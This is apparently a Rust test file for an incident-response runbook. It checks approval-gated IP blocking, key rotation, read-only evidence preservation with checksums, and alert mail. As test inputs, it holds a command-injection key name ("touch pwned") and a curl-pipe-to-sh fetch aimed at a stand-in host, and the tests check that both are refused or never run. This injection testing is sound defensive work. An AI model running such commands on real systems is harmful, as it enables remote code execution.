//! `runbooks/security-incident.yaml`: containment (block, rotate, preserve the
//! evidence, mail) only once approved, and addresses checked before anything
//! runs.

use super::*;

/// A block hook that records each request; 204 when the bearer is right.
fn block_hook() -> Server {
    Server::start(|req: &Request, _| {
        if req.header("authorization") == Some(&format!("Bearer {BLOCK_TOKEN}")) {
            Reply::text(204, "")
        } else {
            Reply::text(401, "bad token")
        }
    })
}

fn security_env(slack: &Server) -> Vec<(String, String)> {
    vec![
        ("SLACK_WEBHOOK_URL".into(), slack.url("/services/T0/B0/sec")),
        ("BLOCK_TOKEN".into(), BLOCK_TOKEN.into()),
        // The relay here takes mail without a login.
        ("SMTP_PASSWORD".into(), String::new()),
    ]
}

fn security_args(smtp: &SmtpServer, hook: &Server) -> Vec<String> {
    [
        "summary=Credential stuffing against /login".to_owned(),
        "security_email=security@example.com".to_owned(),
        "mail_from=Steward <steward@example.com>".to_owned(),
        "smtp_server=127.0.0.1".to_owned(),
        format!("smtp_port={}", smtp.port),
        "smtp_tls=none".to_owned(),
        "ips=203.0.113.7, 198.51.100.0/24,2001:db8::1".to_owned(),
        format!("block_url={}", hook.url("/firewall/block")),
        // A name with a quote and a semicolon: it must stay one argument.
        "keys=stripe-live, it's; touch pwned".to_owned(),
        "rotate_command=printf '%s|%s\\n' {key} \"$KEY_NAME\" >> rotated".to_owned(),
        "evidence_paths=logs/auth.log, logs/nginx".to_owned(),
    ]
    .into_iter()
    .flat_map(|a| ["-i".to_owned(), a])
    .collect()
}

fn write_logs(p: &Project) {
    p.write("logs/auth.log", "Failed login for admin from 203.0.113.7\n");
    p.write("logs/nginx/access.log", "203.0.113.7 POST /login 401\n");
    p.write("logs/nginx/error.log", "rate limit exceeded\n");
}

/// Makes a read-only evidence folder removable again.
fn writable(path: &std::path::Path) {
    let _ = Command::new("chmod")
        .arg("-R")
        .arg("u+w")
        .arg(path)
        .status();
}

#[test]
fn approved_containment_blocks_rotates_preserves_and_mails() {
    let p = project();
    write_logs(&p);
    let slack = Server::start(|_, _| Reply::text(200, "ok"));
    let hook = block_hook();
    let smtp = SmtpServer::start(None);
    let mut args: Vec<String> = vec!["--output".into(), "json".into(), "--yes".into()];
    args.extend(security_args(&smtp, &hook));
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let env = security_env(&slack);
    let out = p.run_with("security-incident", &args, |t| t.envs(env).timeout(LIMIT));
    let report = report(&out);
    let run_id = report["run_id"].as_str().unwrap().to_owned();
    let evidence = p.file(&format!("evidence/{run_id}"));
    let _cleanup = scopeguard(evidence.clone());
    out.expect_code(0);
    let outputs = &report["outputs"];

    // One POST per address, with the bearer token.
    let requests = hook.requests();
    assert_eq!(requests.len(), 3, "{requests:#?}");
    let blocked: BTreeSet<String> = requests
        .iter()
        .map(|r| {
            assert_eq!(r.method, "POST");
            assert_eq!(r.path(), "/firewall/block");
            assert_eq!(
                r.header("authorization"),
                Some(format!("Bearer {BLOCK_TOKEN}").as_str())
            );
            let body = r.json();
            assert_eq!(body["reason"], "Credential stuffing against /login");
            assert_eq!(body["incident"], outputs["incident_id"]);
            body["ip"].as_str().unwrap().to_owned()
        })
        .collect();
    assert_eq!(
        blocked,
        BTreeSet::from([
            "203.0.113.7".into(),
            "198.51.100.0/24".into(),
            "2001:db8::1".into()
        ])
    );
    assert_eq!(
        outputs["blocked"],
        json!(["203.0.113.7", "198.51.100.0/24", "2001:db8::1"])
    );

    // Each key rotated once, its name one argument.
    let mut rotated = p.lines("rotated");
    rotated.sort();
    assert_eq!(
        rotated,
        vec![
            "it's; touch pwned|it's; touch pwned",
            "stripe-live|stripe-live"
        ]
    );
    assert!(!p.exists("pwned"), "a key name was run as a command");
    assert_eq!(
        outputs["rotated"],
        json!(["stripe-live", "it's; touch pwned"])
    );

    // Evidence: the logs copied under their full paths, their sums right,
    // read-only.
    assert_eq!(
        outputs["evidence_dir"],
        format!("evidence/{run_id}").as_str()
    );
    let root = p.path().canonicalize().unwrap();
    let rel = root.strip_prefix("/").unwrap();
    let sums = std::fs::read_to_string(evidence.join("SHA256SUMS")).unwrap();
    let mut expected = Vec::new();
    for log in [
        "logs/auth.log",
        "logs/nginx/access.log",
        "logs/nginx/error.log",
    ] {
        let copy = evidence.join(rel).join(log);
        let bytes = std::fs::read(&copy).unwrap_or_else(|e| panic!("{}: {e}", copy.display()));
        assert_eq!(
            bytes,
            std::fs::read(p.file(log)).unwrap(),
            "{log} copied as is"
        );
        let mode = std::fs::metadata(&copy).unwrap().permissions().mode();
        assert_eq!(mode & 0o277, 0, "{log} is read-only, owner only: {mode:o}");
        let line = format!(
            "{}  ./{}/{log}",
            hex::encode(sha2::Sha256::digest(&bytes)),
            rel.display()
        );
        assert!(sums.contains(&line), "{line} in\n{sums}");
        expected.push(line);
    }
    let manifest = std::fs::read_to_string(evidence.join("MANIFEST")).unwrap();
    assert_eq!(
        manifest,
        format!(
            "logs/auth.log -> ./{0}/logs/auth.log\nlogs/nginx -> ./{0}/logs/nginx\n",
            rel.display()
        )
    );
    let manifest_sum = format!(
        "{}  ./MANIFEST",
        hex::encode(sha2::Sha256::digest(manifest.as_bytes()))
    );
    assert!(sums.contains(&manifest_sum), "{sums}");
    assert_eq!(sums.lines().count(), 4, "{sums}");
    let checksums: Vec<&str> = outputs["checksums"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    assert_eq!(checksums, sums.lines().collect::<Vec<_>>());
    let check = Command::new("sha256sum")
        .args(["--strict", "-c", "SHA256SUMS"])
        .current_dir(&evidence)
        .output()
        .unwrap();
    assert!(check.status.success(), "{check:?}");

    // The security team's mail says all of it.
    let mails = smtp.mails();
    assert_eq!(mails.len(), 1, "{mails:#?}");
    let mail = &mails[0];
    assert_eq!(mail.to, vec!["security@example.com"]);
    assert_eq!(mail.auth, None, "no login with an empty smtp_username");
    let id = outputs["incident_id"].as_str().unwrap();
    assert_eq!(
        mail.header("subject").unwrap(),
        format!("[P0] Security incident {id}: Credential stuffing against /login")
    );
    let body = mail.body();
    for expected in [
        format!("Security incident {id} (P0): Credential stuffing against /login"),
        "Runbook: succeeded".to_owned(),
        "Blocked: 203.0.113.7, 198.51.100.0/24, 2001:db8::1".to_owned(),
        "Rotated: stripe-live, it's; touch pwned".to_owned(),
        format!("Evidence: evidence/{run_id}, read-only, SHA-256 in SHA256SUMS:"),
        format!("  {}", expected[0]),
    ] {
        assert!(body.contains(&expected), "{expected:?} in\n{body}");
    }
    // And the channel: the alert, then the same report.
    let texts: Vec<String> = slack
        .requests()
        .iter()
        .map(|r| r.json()["text"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(texts.len(), 2, "{texts:#?}");
    assert!(texts[0].starts_with(&format!("🚨 SECURITY INCIDENT - P0\n\nIncident ID: {id}\n")));
    assert!(texts[0].contains("Actions: preserving 2 evidence path(s); blocking 3 address(es) and rotating 2 key(s) once approved."));
    assert!(texts[1].contains("Status: Contained\n"));
    assert!(texts[1].contains("Blocked: 203.0.113.7, 198.51.100.0/24, 2001:db8::1"));

    let all = p.everything(&out);
    assert!(!all.contains(BLOCK_TOKEN), "the block token leaked");
    let pre = p
        .audit_events(&run_id)
        .into_iter()
        .filter(|e| e["event"] == "approval_decided")
        .map(|e| {
            (
                e["step"].as_str().unwrap().to_owned(),
                e["via"].as_str().unwrap().to_owned(),
            )
        })
        .collect::<BTreeSet<_>>();
    assert_eq!(
        pre,
        BTreeSet::from([
            ("approve_block".to_owned(), "pre-approved".to_owned()),
            ("approve_rotation".to_owned(), "pre-approved".to_owned())
        ])
    );
}

/// Restores write access to an evidence folder when the test ends, so that
/// the project's temp folder can be removed.
struct Writable(std::path::PathBuf);

fn scopeguard(path: std::path::PathBuf) -> Writable {
    Writable(path)
}

impl Drop for Writable {
    fn drop(&mut self) {
        writable(&self.0);
    }
}

#[test]
fn invalid_addresses_are_refused_before_anything_runs() {
    let p = project();
    let slack = Server::start(|_, _| Reply::text(200, "ok"));
    let hook = block_hook();
    let env = security_env(&slack);
    for bad in [
        "203.0.113.7, 1.2.3.999",
        "203.0.113.7; curl evil.example | sh",
        "10.0.0.1 10.0.0.2",
        "2001:db8:::1",
        "10.0.0.0/33",
        "evil.example.com",
    ] {
        let out = p.run_with(
            "security-incident",
            &[
                "-i",
                "summary=x",
                "-i",
                "security_email=security@example.com",
                "-i",
                &format!("ips={bad}"),
                "-i",
                &format!("block_url={}", hook.url("/block")),
                "--yes",
            ],
            |t| t.envs(env.clone()),
        );
        out.expect_code(2);
        assert!(
            out.stderr
                .contains(&format!("input `ips`: `{bad}` doesn't match the pattern")),
            "{bad}: {}",
            out.stderr
        );
    }
    assert!(p.run_ids().is_empty(), "nothing ran");
    assert!(hook.requests().is_empty());
    assert!(slack.requests().is_empty());
}

#[test]
fn without_approval_nothing_is_blocked_or_rotated() {
    let p = project();
    write_logs(&p);
    let slack = Server::start(|_, _| Reply::text(200, "ok"));
    let hook = block_hook();
    let smtp = SmtpServer::start(None);
    let mut args: Vec<String> = vec!["--output".into(), "json".into()];
    args.extend(security_args(&smtp, &hook));
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let run = spawn_run(&p, "security-incident", &args, &security_env(&slack));
    let id = wait_for_approvals(&p, &["approve_block", "approve_rotation"]);
    let _cleanup = scopeguard(p.file(&format!("evidence/{id}")));
    p.steward(&[
        "reject",
        &id,
        "approve_block",
        "--comment",
        "shared NAT, would block customers",
    ])
    .expect_code(0);
    p.steward(&["reject", &id, "approve_rotation"])
        .expect_code(0);
    let out = run.wait(LIMIT);
    out.expect_code(0);
    let report = report(&out);
    assert!(hook.requests().is_empty(), "{:#?}", hook.requests());
    assert!(!p.exists("rotated"));
    assert_eq!(report["steps"]["block"]["status"], "skipped");
    assert_eq!(report["outputs"]["blocked"], json!([]));
    assert_eq!(report["outputs"]["rotated"], json!([]));
    // Evidence is kept whatever the decisions.
    assert_eq!(report["steps"]["preserve_evidence"]["status"], "succeeded");
    assert!(p.exists(&format!("evidence/{id}/SHA256SUMS")));
    let body = smtp.mails()[0].body();
    let who = me();
    assert!(
        body.contains(&format!(
            "Blocked: nothing, not approved: rejected by {who}: shared NAT, would block customers"
        )),
        "{body}"
    );
    assert!(
        body.contains(&format!(
            "Rotated: nothing, not approved: rejected by {who}"
        )),
        "{body}"
    );
}
